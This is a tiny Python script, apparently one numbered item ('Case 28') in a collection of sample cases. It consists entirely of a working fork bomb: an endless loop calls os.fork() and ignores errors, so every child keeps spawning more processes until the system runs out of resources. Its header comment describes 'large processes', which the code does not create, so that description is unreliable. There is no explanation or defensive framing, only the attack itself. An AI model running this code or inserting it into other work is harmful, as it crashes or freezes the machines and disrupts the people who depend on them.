# Case 28: a fork bomb of large processes, in which each child goes on.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
